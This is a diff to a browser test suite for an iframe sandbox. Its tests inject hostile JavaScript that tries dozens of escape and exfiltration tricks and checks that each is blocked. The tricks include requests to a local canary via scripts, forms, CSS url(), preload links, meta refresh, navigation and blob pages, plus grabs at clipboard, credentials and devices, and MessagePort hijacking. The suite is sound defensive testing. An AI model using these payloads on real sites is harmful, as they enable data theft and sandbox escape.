@@ -1,43 +1,38 @@
-import type { Browser, Page } from "playwright-core";
-import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
-import { type Site, awaitEvent, buildSite, eventsOf, frameOf, launch, openPlayer, serveCanary, serveSite } from "./browser.ts";
-import { bind, query, sampleInit } from "./sample.ts";
+import type { Frame } from "playwright-core";
+import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
+import type { PlayerInit } from "../src/host/player-host.ts";
+import { type Canary, serveCanary } from "./browser.ts";
+import { bind, sampleInit } from "./sample.ts";
+import { useSite } from "./use-site.ts";
 
-let browser: Browser;
-let site: Site;
-let canary: Awaited<ReturnType<typeof serveCanary>>;
-let page: Page;
-let built: Awaited<ReturnType<typeof buildSite>>;
-
+const stage = useSite({ viewport: { width: 1000, height: 700 } });
+let canary: Canary;
 beforeAll(async () => {
-  built = await buildSite();
-  site = await serveSite(built.folder);
   canary = await serveCanary();
-  browser = await launch();
 });
-afterAll(async () => {
-  await browser?.close();
-  await site?.close();
-  await canary?.close();
-  await built?.remove();
-});
+afterAll(() => canary?.close());
 beforeEach(async () => {
-  const context = await browser.newContext({ viewport: { width: 1000, height: 700 } });
-  await context.addCookies([{ name: "tessera_session", value: "secret", url: site.origin, sameSite: "Lax" }]);
-  page = await context.newPage();
-  page.setDefaultTimeout(8_000);
+  await stage.page().context().addCookies([{ name: "tessera_session", value: "secret", url: stage.site().origin, sameSite: "Lax" }]);
   canary.visits.length = 0;
-  site.strangers.length = 0;
 });
-afterEach(() => page.context().close());
 
 /** A page whose binding runs hostile code, which leaves what it got in `globalThis.loot`. */
-const hostile = (code: string): Parameters<typeof openPlayer>[2] =>
-  sampleInit({ evil: { type: "label", rect: { x: 0, y: 0, w: 24, h: 4 }, props: { text: bind(`{{ (() => { const canary = "http://127.0.0.1:${canary.port}"; const home = "${site.origin}"; ${code} })() }}`) } } });
+const hostile = (code: string): PlayerInit =>
+  sampleInit({ evil: { type: "label", rect: { x: 0, y: 0, w: 24, h: 4 }, props: { text: bind(`{{ (() => { const canary = "http://127.0.0.1:${canary.port}"; const home = "${stage.site().origin}"; ${code} })() }}`) } } });
 
 /** Code that tries something and notes `blocked`, or what it got. */
 const attempt = (name: string, expression: string): string =>
   `globalThis.loot ??= {}; loot[${JSON.stringify(name)}] = "pending"; Promise.resolve().then(() => (${expression})).then((got) => (loot[${JSON.stringify(name)}] = got === undefined ? "blocked" : String(got)), () => (loot[${JSON.stringify(name)}] = "blocked"));`;
+
+/** What each attempt got, once all are over. */
+async function lootOf(frame: Frame): Promise<Record<string, string>> {
+  await frame.getByText("ran").waitFor();
+  await frame.waitForFunction(() => !Object.values((globalThis as unknown as { loot: Record<string, string> }).loot).includes("pending"));
+  return frame.evaluate(() => (globalThis as unknown as { loot: Record<string, string> }).loot);
+}
+
+const nothing = (tries: object): Record<string, string> => Object.fromEntries(Object.keys(tries).map((name) => [name, "blocked"]));
+const attempts = (tries: Record<string, string>): string => Object.entries(tries).map(([name, code]) => attempt(name, code)).join(" ");
 
 const element = (tag: string, fields: string, parent = "document.head"): string => `(() => { const element = document.createElement("${tag}"); ${fields} ${parent}.append(element); })()`;
 
@@ -51,14 +46,9 @@ describe("code of a page", () => {
       broadcast: "new Promise((ok, no) => { const channel = new BroadcastChannel('x'); channel.onmessage = () => ok('heard'); setTimeout(no, 300); })",
       popup: "window.open('about:blank') ?? undefined", alert: "alert('x')", topNavigation: "(() => { top.location.href = canary; })()", parentNavigation: "(() => { parent.location = canary; })()",
     };
-    await openPlayer(page, site, hostile(`${Object.entries(tries).map(([name, code]) => attempt(name, code)).join(" ")} return 'ran';`));
-    const frame = frameOf(page);
-    await frame.getByText("ran").waitFor();
-    await frame.waitForFunction(() => !Object.values((globalThis as unknown as { loot: Record<string, string> }).loot).includes("pending"));
-    const loot = await frame.evaluate(() => (globalThis as unknown as { loot: Record<string, string> }).loot);
-    expect(loot).toEqual(Object.fromEntries(Object.keys(tries).map((name) => [name, "blocked"])));
-    expect(page.url()).toBe(`${site.origin}/`);
-    expect(page.context().pages()).toHaveLength(1);
+    expect(await lootOf(await stage.open(hostile(`${attempts(tries)} return 'ran';`)))).toEqual(nothing(tries));
+    expect(stage.page().url()).toBe(`${stage.site().origin}/`);
+    expect(stage.page().context().pages()).toHaveLength(1);
     expect(canary.visits).toEqual([]);
   });
 
@@ -80,79 +70,57 @@ describe("code of a page", () => {
       element("script", `element.src = ${url};`), element("script", "element.textContent = 'globalThis.inline = 1';"), element("script", `element.type = 'speculationrules'; element.textContent = JSON.stringify({ prefetch: [{ urls: [${url}] }] });`),
       element("form", `element.action = ${url}; element.method = 'post'; setTimeout(() => element.submit());`, "document.body"), element("a", `element.href = '#'; element.ping = ${url}; setTimeout(() => element.click());`, "document.body"),
       element("iframe", "element.srcdoc = '<script>new RTCPeerConnection()</' + 'script>';", "document.body"), element("svg", "element.innerHTML = '<image href=\"' + canary + '/svg\"/>';", "document.body"),
+      element("link", "element.rel = 'preconnect'; element.href = canary;"), element("link", "element.rel = 'dns-prefetch'; element.href = canary;"), element("link", `element.rel = 'preload'; element.as = 'image'; element.imageSrcset = ${url} + ' 1x';`),
+      element("picture", `element.innerHTML = '<source srcset="' + ${url} + '"><img srcset="' + ${url} + ' 2x">';`, "document.body"), element("input", `element.type = 'image'; element.src = ${url};`, "document.body"), element("audio", `element.innerHTML = '<source src="' + ${url} + '"><track default src="' + ${url} + '">';`, "document.body"),
+      element("div", `element.innerHTML = '<svg><use href="' + ${url} + '#a"/><filter id="f"><feImage href="' + ${url} + '"/></filter><rect filter="url(#f)" width="9" height="9"/></svg><table background="' + ${url} + '"><tr><td>x</td></tr></table>';`, "document.body"),
+      element("style", `element.textContent = '.bait { cursor: url(' + ${url} + '), auto; mask: url(' + ${url} + '); list-style: url(' + ${url} + '); background: image-set(url(' + ${url} + ') 1x); content: url(' + ${url} + ') } @namespace a url(' + ${url} + ');';`),
+      element("div", "element.className = 'bait'; element.textContent = 'bait';", "document.body"), element("script", `element.type = 'importmap'; element.textContent = JSON.stringify({ imports: { x: ${url} } });`), element("meta", "element.httpEquiv = 'refresh'; element.content = '9999;url=' + canary;"),
       element("meta", "element.httpEquiv = 'Content-Security-Policy'; element.content = \"default-src *\";"), element("base", "element.href = canary;"),
     ];
-    await openPlayer(page, site, hostile(`${Object.entries(tries).map(([name, code]) => attempt(name, code)).join(" ")} ${silent.map((code) => `try { ${code} } catch (error) { void error; }`).join(" ")} return 'ran';`));
-    const frame = frameOf(page);
-    await frame.getByText("ran").waitFor();
-    await frame.waitForFunction(() => !Object.values((globalThis as unknown as { loot: Record<string, string> }).loot).includes("pending"));
-    const { loot, inline } = await frame.evaluate(() => {
-      const own = globalThis as unknown as { loot: Record<string, string>; inline?: number };
-      return { loot: own.loot, inline: own.inline };
-    });
-    expect(loot).toEqual(Object.fromEntries(Object.keys(tries).map((name) => [name, "blocked"])));
-    expect(inline).toBeUndefined();
+    const frame = await stage.open(hostile(`${attempts(tries)} ${silent.map((code) => `try { ${code} } catch (error) { void error; }`).join(" ")} return 'ran';`));
+    expect(await lootOf(frame)).toEqual(nothing(tries));
+    expect(await frame.evaluate(() => (globalThis as unknown as { inline?: number }).inline)).toBeUndefined();
     // A visit that was on its way would be here by the time the shell has asked the same server for something.
     await fetch(`http://127.0.0.1:${canary.port}/marker`);
-    expect(canary.visits.filter((visit) => visit !== "bytes")).toEqual(["GET /marker"]);
-    expect(canary.visits.filter((visit) => visit === "bytes")).toHaveLength(1);
-    expect(site.strangers.filter((request) => !request.includes("favicon"))).toEqual([]);
+    expect(canary.visits).toEqual(["connection", "GET /marker"]);
+    expect(stage.site().strangers.filter((request) => !request.includes("favicon"))).toEqual([]);
   });
 
-  it("cannot carry data away by navigating its own frame", async () => {
-    for (const code of ["location.href = canary + '/self'", "location.replace(canary + '/self')", "document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=\"refresh\" content=\"0;url=' + canary + '/meta\">')"]) {
-      await openPlayer(page, site, hostile(`setTimeout(() => { ${code} }, 50); return 'ran';`));
-      const frame = page.frames().find((candidate) => candidate !== page.mainFrame());
-      await expect.poll(() => frame?.url() ?? "gone").not.toMatch(/127\.0\.0\.1:\d+\/(self|meta)/);
-      await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve, 200))));
-      expect(canary.visits).toEqual([]);
-      expect(page.url()).toBe(`${site.origin}/`);
-    }
+  it("reaches no device, file, permission, fresh window or shared memory", async () => {
+    const settled = (call: string): string => `(${call}).then((got) => got ?? undefined)`;
+    const tries = {
+      clipboardRead: "navigator.clipboard.readText()", clipboardWrite: "navigator.clipboard.writeText('x').then(() => 'wrote')", notifications: "Notification.requestPermission().then((got) => got === 'denied' ? undefined : got)", documentDomain: "(document.domain = '127.0.0.1')",
+      sharedMemory: "typeof SharedArrayBuffer === 'undefined' ? undefined : 'there'", fineClock: "crossOriginIsolated || undefined", fullscreen: "document.body.requestFullscreen().then(() => 'full')", pointerLock: "document.body.requestPointerLock().then(() => 'locked')",
+      protocolHandler: "(navigator.registerProtocolHandler('web+x', canary + '/%s'), 'registered')", sharedWorker: "new Promise((ok, no) => { const w = new SharedWorker('data:text/javascript,'); w.onerror = no; w.port.onmessage = () => ok('ran'); })",
+      dataWorker: "new Promise((ok, no) => { const w = new Worker('data:text/javascript,postMessage(1)'); w.onmessage = () => ok('ran'); w.onerror = no; })", blobModule: "import(URL.createObjectURL(new Blob(['export default 1'], { type: 'text/javascript' }))).then(() => 'ran')",
+      passwords: settled("navigator.credentials.get({ password: true })"), passkeys: settled("navigator.credentials.get({ publicKey: { challenge: new Uint8Array(16) } })"), files: "showOpenFilePicker().then(() => 'picked')", camera: "navigator.mediaDevices.getUserMedia({ video: true }).then(() => 'seen')",
+      screen: "navigator.mediaDevices.getDisplayMedia().then(() => 'seen')", place: "new Promise((ok, no) => navigator.geolocation.getCurrentPosition(() => ok('found'), no))", usb: "navigator.usb.getDevices().then((found) => found.length || undefined)", wakeLock: "navigator.wakeLock.request('screen').then(() => 'awake')",
+      blankFrame: "(() => { const f = document.createElement('iframe'); document.body.append(f); return typeof f.contentWindow.RTCPeerConnection; })()", blankDocument: "(() => { const f = document.createElement('iframe'); document.body.append(f); return f.contentDocument ?? undefined; })()",
+      openedDocument: "(() => { const d = document.implementation.createHTMLDocument(''); const f = d.createElement('iframe'); d.body.append(f); return f.contentWindow ?? undefined; })()", scriptAddress: "new Promise((ok, no) => { location.href = 'javascript:globalThis.address = 1'; setTimeout(() => globalThis.address ? ok('ran') : no(), 200); })",
+      storageAccess: "document.requestStorageAccess().then(() => 'granted')", fencedFrame: "(() => { const f = document.createElement('fencedframe'); document.body.append(f); return f.config === undefined ? undefined : (f.config = new FencedFrameConfig(canary), 'set'); })()",
+    };
+    const frame = await stage.open(hostile(`${attempts(tries)} return 'ran';`));
+    expect(await lootOf(frame)).toEqual(nothing(tries));
+    expect(canary.visits).toEqual([]);
   });
 
-  it("gets no answer for a query that its app does not have, and its floods and false messages are dropped", async () => {
-    // Code of a page can catch the port when it stands in for what the frame uses; the shell must hold even then.
-    await openPlayer(page, site, sampleInit({ evil: { type: "label", rect: { x: 0, y: 0, w: 24, h: 4 }, props: { text: bind(`{{ (() => {
-      if (globalThis.done) return 'ran';
-      globalThis.done = true;
-      const original = MessagePort.prototype.postMessage;
-      MessagePort.prototype.postMessage = function (...args) { if (args[0]?.type) globalThis.port = this; return original.apply(this, args); };
-      const attack = setInterval(() => {
-        if (!globalThis.port) return;
-        clearInterval(attack);
-        const send = (message) => original.call(port, message);
-        send({ type: 'runQuery', callId: 900, query: 'secret', inputs: {} });
-        send({ type: 'runQuery', callId: 901, query: '__proto__', inputs: {} });
-        send({ type: 'navigate', page: 'elsewhere', params: {} });
-        send({ type: 'ready', bridgeVersion: 1 });
-        send({ type: 'layoutChanged', breakpoint: 'huge', rects: {} });
-        send({ type: 'selected', nodes: ['__proto__ x'], additive: 1 });
-        send('text'); send(null); send({ type: 'constructor' });
-        for (let i = 0; i < 2000; i += 1) send({ type: 'notify', level: 'info', message: 'n' + i });
-      }, 10);
-      return 'ran';
-    })() }}`) } } }, { queries: { known: query("known", { trigger: "manual" }) } }));
-    await awaitEvent(page, "notify");
-    await page.waitForFunction(() => window.harness.events.some((event) => event.code === "player.flood"));
-    const problems = (await eventsOf(page, "problem")).map((problem) => problem.code);
-    expect(problems.filter((code) => code === "player.query-unknown")).toHaveLength(2);
-    expect(problems).toContain("player.page-unknown");
-    expect(problems.filter((code) => code === "player.bad-message").length).toBeGreaterThanOrEqual(5);
-    expect((await eventsOf(page, "notify")).length).toBeLessThanOrEqual(40);
-    expect(await page.evaluate(() => window.harness.calls)).toEqual([]);
-    expect(await eventsOf(page, "navigate")).toEqual([]);
-  });
-
-  it("is not listened to when it speaks for another window", async () => {
-    const frame = await openPlayer(page, site, hostile("parent.postMessage({ type: 'notify', level: 'info', message: 'x' }, '*'); return 'ran';"));
-    await frame.getByText("ran").waitFor();
-    expect(await eventsOf(page, "notify")).toEqual([]);
-    const second = await frame.evaluate(() => new Promise((resolve) => {
-      const { port1, port2 } = new MessageChannel();
-      port1.onmessage = () => resolve("took a second port");
-      window.postMessage({ type: "tessera-player", bridgeVersion: 1 }, "*", [port2]);
-      setTimeout(() => resolve("ignored"), 200);
-    }));
-    expect(second).toBe("ignored");
+  it.each([
+    ["an address", "location.href = canary + '/self'"],
+    ["a replaced address", "location.replace(canary + '/self')"],
+    ["a refresh", "document.head.insertAdjacentHTML('beforeend', '<meta http-equiv=\"refresh\" content=\"0;url=' + canary + '/meta\">')"],
+    ["a link", element("a", "element.href = canary + '/link'; setTimeout(() => element.click());", "document.body")],
+    ["a form", element("form", "element.action = canary + '/form'; setTimeout(() => element.submit());", "document.body")],
+    ["the navigation interface", "navigation.navigate(canary + '/navigate')"],
+    ["text of its own", "location.href = URL.createObjectURL(new Blob(['<script>fetch(' + JSON.stringify(canary) + ')</script>'], { type: 'text/html' }))"],
+    ["an address of the platform", "location.href = home + '/api/v1/apps'"],
+    ["an address of the platform, put into its history first", "history.pushState(null, '', '/api/v1/apps'); location.reload()"],
+  ])("cannot carry anything away by navigating its own frame to %s", async (_name, code) => {
+    await stage.open(hostile(`if (!globalThis.tried) { globalThis.tried = true; setTimeout(() => { ${code}; }, 50); } return 'ran';`));
+    const frame = stage.page().frames().find((candidate) => candidate !== stage.page().mainFrame());
+    await expect.poll(() => frame?.url() ?? "gone").not.toMatch(/:\d+\/(self|meta|link|form|navigate)/);
+    await stage.page().evaluate(() => new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve, 300))));
+    expect(canary.visits).toEqual([]);
+    expect(stage.site().strangers).toEqual([]);
+    expect(stage.page().url()).toBe(`${stage.site().origin}/`);
   });
 });
